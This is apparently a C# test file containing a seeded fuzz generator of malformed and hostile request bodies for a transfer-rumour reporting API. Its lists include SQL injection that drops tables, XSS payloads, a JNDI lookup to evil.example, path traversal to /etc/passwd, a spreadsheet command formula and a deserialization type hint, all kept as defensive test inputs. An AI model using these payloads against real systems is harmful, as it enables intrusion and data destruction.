using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json.Nodes;
using Timeline.Domain.Names;

namespace Timeline.Reliability.Tests;

/// <summary>What a valid case asked to store, to compare with what the service gives back.</summary>
public sealed record ExpectedReport(string Id, string Reporter, string Outlet, string? Url, string? Quote, IReadOnlyList<string?> Clubs);

/// <summary>
/// One request body: its family (for the tally), its bytes, whether it goes out without a length
/// (chunked), and, for a valid report, what it asks to store.
/// </summary>
public sealed record HostileCase(string Kind, byte[] Body, string? ContentType = "application/json", bool Chunked = false, ExpectedReport? Valid = null);

/// <summary>
/// A seeded generator of <c>POST /api/reports</c> bodies: valid reports carrying awkward but legal text
/// (scripts, SQL, emoji, right-to-left marks), and every way of getting a body wrong that a client, a
/// proxy or an attacker might find: wrong types, huge numbers, deep nesting, invalid UTF-8, control
/// characters, strings of a mebibyte, duplicate keys, broken syntax. The same seed gives the same bodies.
/// </summary>
public sealed class HostileBodies(int seed, IReadOnlyList<string> sagas)
{
    public const int MiB = 1024 * 1024;

    private readonly Random _random = new(seed);
    private int _n;

    /// <summary>Legal text that a careless service would mangle, interpret or choke on.</summary>
    private static readonly string[] AwkwardText =
    [
        "Vinny O'Connor", "L'Équipe", "Dean Jones", "The Athletic", "Ὀδυσσεύς", "مراسل الرياضة", "כתב ספורט", "体育记者",
        "⚽🏆🙂", "👨‍👩‍👧 family emoji", "𝕏 mathematical", "a\u0301 combining", "Z\u0337\u0349a\u0338\u0330l\u0335g\u0336o",
        "zero\u200Bwidth\u200Djoin", "rtl \u202Eoverride\u202C", "\uFEFFleading BOM", "non-character \uFFFE\uFFFF",
        "'; drop table timeline.mt_events; --", "\" or 1=1 --", "Robert'); DROP TABLE reports;--", "$$ select pg_sleep(10) $$",
        "1; update mt_events set data = '{}'", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "</textarea><svg/onload=alert(1)>", "&lt;&amp;&#x27;", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%n%x",
        "../../etc/passwd", "=cmd|' /C calc'!A0", "@SUM(1+1)", "{\"$type\":\"System.IO.FileInfo\"}", "\\u0000 literally",
        "null", "undefined", "NaN", "true", "0", "-1", "__proto__", "constructor", "back\\slash", "quote \" inside",
    ];

    /// <summary>The reporter and outlet of the bodies written out by hand below.</summary>
    private static readonly string[] PlainNames = ["R", "O"];

    /// <summary>
    /// The awkward texts a name may be: those in one script and without bidirectional controls, none a
    /// lookalike of another or of <see cref="PlainNames"/> ("0" and "O" are confusable). The service refuses
    /// such names: the "hostile name" family sends them.
    /// </summary>
    private static readonly string[] AwkwardNames = AwkwardText
        .Where(t => Lookalikes.Refusal(t) is null)
        .Where(t => !PlainNames.Select(Lookalikes.Skeleton).Contains(Lookalikes.Skeleton(t), StringComparer.Ordinal))
        .DistinctBy(Lookalikes.Skeleton, StringComparer.Ordinal)
        .ToArray();

    /// <summary>Names made to pass for others: bidirectional overrides and isolates, and letters of a second script.</summary>
    private static readonly string[] HostileNames =
    [
        "rtl \u202Eoverride\u202C", "Dean \u2067Jones\u2069", "Vinny\u200F O'Connor", "Vinny O'C\u043Ennor", "Sky Sp\u03BFrts",
        "\u0422he Athletic", "Ὀδυσσεύς Jones", "مراسل Sky",
    ];

    private static readonly string[] Urls =
    [
        "https://www.skysports.com/football/news/11095/konate", "http://example.com/?q=%3Cscript%3E&x='y'",
        "https://example.com/a/b?c=d#e", "https://xn--nxasmq6b.example/ελληνικά", "https://example.com/" + new string('a', 1500),
    ];

    private static readonly string[] Levels = ["monitoring", "interested", "advanced", "bid", "agreed", "cooling", "withdrawn"];

    public IEnumerable<HostileCase> Generate(int count)
    {
        for (var i = 0; i < count; i++)
        {
            yield return Next();
        }
    }

    private HostileCase Next()
    {
        var id = $"fuzz-{seed}-{_n++}";
        return _random.Next(100) switch
        {
            < 22 => ValidCase(id),
            < 34 => WrongType(id),
            < 40 => HugeNumbers(id),
            < 45 => DeepNesting(id),
            < 53 => InvalidUtf8(id),
            < 61 => ControlCharacters(id),
            < 63 => HugeStrings(id),
            < 70 => Injection(id),
            < 76 => DuplicateKeys(id),
            < 88 => BrokenSyntax(id),
            < 92 => Shapes(id),
            < 96 => HostileName(id),
            _ => Surrogates(id),
        };
    }

    private T Pick<T>(IReadOnlyList<T> values) => values[_random.Next(values.Count)];

    private string Text(int maxLength)
    {
        var text = Pick(AwkwardText);
        if (_random.Next(4) == 0)
        {
            text += " " + Pick(AwkwardText);
        }

        return text.Length <= maxLength ? text : text[..maxLength];
    }

    /// <summary>A valid report as a JSON object, and what it should store.</summary>
    private (JsonObject Body, ExpectedReport Expected) ValidReport(string id)
    {
        var claims = new JsonArray();
        var clubs = new List<string?>();
        for (var i = 0; i < 1 + _random.Next(3); i++)
        {
            var (claim, club) = ValidClaim();
            claims.Add(claim);
            clubs.Add(club);
        }

        var reporter = Pick(AwkwardNames);
        var outlet = Pick(AwkwardNames);
        string? url = _random.Next(2) == 0 ? Pick(Urls) : null;
        string? quote = _random.Next(2) == 0 ? Text(200) + "\n" + Text(200) + "\r\n\t" + Text(200) : null;
        var body = new JsonObject
        {
            ["id"] = id,
            ["reporter"] = reporter,
            ["outlet"] = outlet,
            ["publishedAt"] = new DateTimeOffset(2024, 1, 1, 0, 0, 0, TimeSpan.Zero)
                .AddMinutes(_random.Next(0, 700_000)).ToOffset(TimeSpan.FromHours(_random.Next(-12, 15)))
                .ToString("yyyy-MM-dd'T'HH:mm:sszzz", CultureInfo.InvariantCulture),
            ["claims"] = claims,
        };
        if (url is not null)
        {
            body["url"] = url;
        }

        if (quote is not null)
        {
            body["quote"] = quote;
        }

        return (body, new ExpectedReport(id, reporter, outlet, url, quote, clubs));
    }

    private (JsonObject Claim, string? Club) ValidClaim()
    {
        var saga = Pick(sagas);
        var club = Text(200);
        return _random.Next(5) switch
        {
            0 => (new JsonObject { ["saga"] = saga, ["type"] = "interest", ["club"] = club, ["level"] = Pick(Levels) }, club),
            1 => (new JsonObject
            {
                ["saga"] = saga, ["type"] = "offer", ["club"] = club, ["kind"] = "transfer-fee", ["status"] = "made",
                ["amount"] = _random.Next(0, 2) == 0 ? 60_000_000 : 0.5m, ["currency"] = "EUR",
            }, club),
            2 => (new JsonObject { ["saga"] = saga, ["type"] = "club-stance", ["club"] = club, ["stance"] = "open-to-sale" }, club),
            3 => (new JsonObject
            {
                ["saga"] = saga, ["type"] = "expectation", ["outcome"] = "transfer", ["club"] = club,
                ["confidence"] = _random.Next(3) switch { 0 => 0, 1 => 1, _ => 0.0000001 },
            }, club),
            _ => (new JsonObject { ["saga"] = saga, ["type"] = "player-stance", ["stance"] = "exploring-options", ["from"] = "2026-01" }, null),
        };
    }

    private byte[] Serialize(JsonNode node) => JsonSerializer.SerializeToUtf8Bytes(node, _random.Next(2) == 0 ? Raw : Escaped);

    private static readonly JsonSerializerOptions Raw = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
    private static readonly JsonSerializerOptions Escaped = new();

    private HostileCase ValidCase(string id)
    {
        var (body, expected) = ValidReport(id);
        return new HostileCase("valid", Serialize(body), Valid: expected);
    }

    /// <summary>A valid report but for a reporter or outlet that passes for another name: refused, field by field.</summary>
    private HostileCase HostileName(string id)
    {
        var (body, _) = ValidReport(id);
        body[_random.Next(2) == 0 ? "reporter" : "outlet"] = Pick(HostileNames);
        return new HostileCase("hostile name", Serialize(body));
    }

    /// <summary>Every place a value can go, holding a value of the wrong kind.</summary>
    private HostileCase WrongType(string id)
    {
        var (body, _) = ValidReport(id);
        JsonNode? wrong = _random.Next(8) switch
        {
            0 => 42,
            1 => true,
            2 => new JsonArray("a", 1),
            3 => new JsonObject { ["nested"] = "object" },
            4 => null,
            5 => -0.0,
            6 => "",
            _ => "   ",
        };
        var claims = body["claims"]!.AsArray();
        if (_random.Next(2) == 0)
        {
            var field = Pick(new[] { "id", "reporter", "outlet", "publishedAt", "url", "quote", "claims" });
            body[field] = wrong?.DeepClone();
        }
        else
        {
            var claim = claims[_random.Next(claims.Count)]!.AsObject();
            var field = Pick(claim.Select(p => p.Key).ToList());
            claim[field] = wrong?.DeepClone();
        }

        return new HostileCase("wrong type", Serialize(body));
    }

    private static readonly string[] HugeNumberLiterals =
    [
        "1e400", "-1e400", "1.7976931348623157e309", "123456789012345678901234567890123456789012345678901234567890",
        "-0", "0.00000000000000000000000000000000000000000000001", "1e-400", "99999999999999999999999999999.9999",
        "100000000000.0000000001", "1E+2", "-1", "2", "1.0000000000000000000000001",
    ];

    /// <summary>Numbers beyond every range, in the places a number belongs: refused or stored, never a crash.</summary>
    private HostileCase HugeNumbers(string id)
    {
        var saga = Pick(sagas);
        var literal = Pick(HugeNumberLiterals);
        var claim = _random.Next(3) switch
        {
            0 => $$"""{"saga":"{{saga}}","type":"offer","club":"PSG","kind":"transfer-fee","status":"made","amount":{{literal}},"currency":"EUR"}""",
            1 => $$"""{"saga":"{{saga}}","type":"expectation","outcome":"transfer","confidence":{{literal}}}""",
            _ => $$"""{"saga":"{{saga}}","type":"outcome","result":"transferred","club":"PSG","fee":{{literal}}}""",
        };
        return new HostileCase("huge number", Encoding.UTF8.GetBytes(
            $$"""{"id":"{{id}}","reporter":"R","outlet":"O","publishedAt":"2025-11-30T09:00:00Z","claims":[{{claim}}]}"""));
    }

    private HostileCase DeepNesting(string id)
    {
        var depth = _random.Next(2) == 0 ? _random.Next(60, 70) : _random.Next(500, 20_000);
        var open = _random.Next(2) == 0 ? "[" : "{\"a\":";
        var close = open == "[" ? "]" : "}";
        var nested = string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
        var body = _random.Next(3) switch
        {
            0 => nested,
            1 => $$"""{"id":"{{id}}","reporter":{{nested}},"outlet":"O","publishedAt":"2025-11-30T09:00:00Z","claims":[]}""",
            _ => $$"""{"id":"{{id}}","reporter":"R","outlet":"O","publishedAt":"2025-11-30T09:00:00Z","claims":[{"saga":"{{Pick(sagas)}}","type":"interest","club":{{nested}},"level":"bid"}]}""",
        };
        return new HostileCase("deep nesting", Encoding.UTF8.GetBytes(body));
    }

    private static readonly byte[][] InvalidSequences =
    [
        [0xFF], [0xFE, 0xFF], [0xC3, 0x28], [0xA0, 0xA1], [0xE2, 0x28, 0xA1], [0xE2, 0x82, 0x28], [0xF0, 0x28, 0x8C, 0xBC],
        [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xF4, 0x90, 0x80, 0x80], [0x80], [0xC2],
    ];

    /// <summary>A valid report with bytes that are not UTF-8 inside one of its strings (sent as raw bytes).</summary>
    private HostileCase InvalidUtf8(string id)
    {
        var (body, _) = ValidReport(id);
        var bytes = JsonSerializer.SerializeToUtf8Bytes(body);
        var quotes = Enumerable.Range(0, bytes.Length).Where(i => bytes[i] == (byte)'"').ToList();
        var at = quotes[_random.Next(quotes.Count)] + 1;
        var bad = Pick(InvalidSequences);
        return new HostileCase("invalid UTF-8", [.. bytes[..at], .. bad, .. bytes[at..]]);
    }

    private HostileCase ControlCharacters(string id)
    {
        var (body, _) = ValidReport(id);
        var control = (char)_random.Next(0, 32);
        if (_random.Next(2) == 0)
        {
            // Escaped, so the JSON is well formed and the validation has to catch it.
            var field = Pick(new[] { "reporter", "outlet", "id" });
            body[field] = "before" + control + "after";
            if (control is '\n' or '\r' or '\t')
            {
                body[field] = "before\u0000after";
            }

            return new HostileCase("control character", Serialize(body));
        }

        // Raw inside a string, which JSON does not allow.
        var bytes = JsonSerializer.SerializeToUtf8Bytes(body);
        var at = Array.IndexOf(bytes, (byte)'"', 2) + 1;
        return new HostileCase("control character", [.. bytes[..at], (byte)control, .. bytes[at..]]);
    }

    /// <summary>Strings around a mebibyte: over the body limit with and without a length, and just under it.</summary>
    private HostileCase HugeStrings(string id)
    {
        var (body, _) = ValidReport(id);
        switch (_random.Next(3))
        {
            case 0:
                body["quote"] = new string('q', MiB + _random.Next(1, 1000));
                return new HostileCase("1 MiB string", Serialize(body));
            case 1:
                body["reporter"] = string.Concat(Enumerable.Repeat("é", MiB / 2 + 10));
                return new HostileCase("1 MiB string", Serialize(body), Chunked: true);
            default:
                var bytes = JsonSerializer.SerializeToUtf8Bytes(body);
                body["quote"] = new string('x', MiB - bytes.Length - 100);
                return new HostileCase("1 MiB string", Serialize(body));
        }
    }

    private static readonly string[] InjectionFragments =
    [
        "'; drop table timeline.mt_events; --", "<script>alert(1)</script>", "ibrahima-konate' or '1'='1", "../../etc/passwd",
        "konate\u0000", "KONATE", "konate--", "-konate", "a b", "%27", "\\", "{{saga}}", "report:x", "*", "%",
    ];

    /// <summary>Injection fragments where the vocabulary is closed: saga slugs, claim types, levels, ids.</summary>
    private HostileCase Injection(string id)
    {
        var (body, _) = ValidReport(id);
        var fragment = Pick(InjectionFragments);
        var claim = body["claims"]!.AsArray()[0]!.AsObject();
        switch (_random.Next(4))
        {
            case 0: claim["saga"] = fragment; break;
            case 1: claim["type"] = fragment; break;
            case 2: body["id"] = fragment; break;
            default: claim[claim.ContainsKey("level") ? "level" : "stance"] = fragment; break;
        }

        return new HostileCase("injection fragment", Serialize(body));
    }

    /// <summary>The same key twice, at the top or in a claim, with the same or a different value.</summary>
    private HostileCase DuplicateKeys(string id)
    {
        var (body, _) = ValidReport(id);
        var json = Encoding.UTF8.GetString(JsonSerializer.SerializeToUtf8Bytes(body));
        var duplicated = _random.Next(4) switch
        {
            0 => json.Replace("{\"id\":", "{\"reporter\":\"first\",\"id\":"),
            1 => json.Replace("{\"id\":", $"{{\"id\":\"{id}-other\",\"id\":"),
            2 => json.Replace("\"type\":", "\"type\":\"interest\",\"type\":"),
            _ => json.Replace("\"claims\":", "\"claims\":[],\"claims\":"),
        };
        return new HostileCase("duplicate key", Encoding.UTF8.GetBytes(duplicated));
    }

    /// <summary>Bodies that are not JSON, or not quite: truncated, padded, commented, single-quoted.</summary>
    private HostileCase BrokenSyntax(string id)
    {
        var (body, _) = ValidReport(id);
        var json = Encoding.UTF8.GetString(JsonSerializer.SerializeToUtf8Bytes(body));
        var broken = _random.Next(12) switch
        {
            0 => json[.._random.Next(json.Length)],
            1 => json + "x",
            2 => json + json,
            3 => "",
            4 => "   \n\t ",
            5 => json.Replace("\"claims\":", "/* comment */\"claims\":"),
            6 => json.Replace('"', '\''),
            7 => json.Replace("]", ",]"),
            8 => json.Replace("}", ",}"),
            9 => "{\"confidence\": NaN, \"amount\": Infinity}",
            10 => "\uFEFF" + json.Replace("\"id\":\"" + id, "\"id\":\"" + id + "-bom"),
            _ => json.Replace(":", " "),
        };
        var contentType = _random.Next(10) switch
        {
            0 => "text/plain",
            1 => null,
            2 => "application/json; charset=latin1",
            _ => "application/json",
        };
        return new HostileCase("broken syntax", Encoding.UTF8.GetBytes(broken), contentType);
    }

    /// <summary>Well-formed JSON of the wrong shape: scalars, arrays, too many claims or fields, look-alike keys.</summary>
    private HostileCase Shapes(string id)
    {
        var (body, _) = ValidReport(id);
        var claims = body["claims"]!.AsArray();
        string json;
        switch (_random.Next(7))
        {
            case 0:
                json = Pick(new[] { "null", "[]", "123", "\"a report\"", "true", "{}", "[{}]" });
                break;
            case 1:
                var many = new JsonArray();
                for (var i = 0; i < 201 + _random.Next(300); i++)
                {
                    many.Add(claims[0]!.DeepClone());
                }

                body["claims"] = many;
                json = body.ToJsonString();
                break;
            case 2:
                for (var i = 0; i < 5_000; i++)
                {
                    body[$"field{i}"] = i;
                }

                json = body.ToJsonString();
                break;
            case 3:
                body[Pick(new[] { "__proto__", "$type", "constructor", "Reporter", "REPORTER", "reporter ", "" })] = "x";
                json = body.ToJsonString();
                break;
            case 4:
                body["claims"] = new JsonArray(1, "interest", null, new JsonArray());
                json = body.ToJsonString();
                break;
            case 5:
                body["publishedAt"] = Pick(new[]
                {
                    "2025-13-45T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2025-11-30", "2025-11-30T09:00:00",
                    "1764493200", "2025-11-30T09:00:00+25:00", "yesterday", "2025-11-30T09:00:00.1234567890123Z",
                });
                json = body.ToJsonString();
                break;
            default:
                claims[0]!.AsObject()["saga"] = new string('a', 10_000);
                json = body.ToJsonString();
                break;
        }

        return new HostileCase("wrong shape", Encoding.UTF8.GetBytes(json));
    }

    /// <summary>Escaped UTF-16 halves that make no character on their own.</summary>
    private HostileCase Surrogates(string id)
    {
        var (body, _) = ValidReport(id);
        var json = Encoding.UTF8.GetString(JsonSerializer.SerializeToUtf8Bytes(body));
        var lone = Pick(new[] { "\\ud800", "\\udfff", "\\ud83d", "\\ude00\\ud83d", "x\\udbff" });
        var field = Pick(new[] { "\"reporter\":\"", "\"outlet\":\"", "\"club\":\"" });
        var at = json.IndexOf(field, StringComparison.Ordinal);
        if (at < 0)
        {
            field = "\"reporter\":\"";
            at = json.IndexOf(field, StringComparison.Ordinal);
        }

        at += field.Length;
        return new HostileCase("lone surrogate", Encoding.UTF8.GetBytes(json[..at] + lone + json[at..]));
    }
}
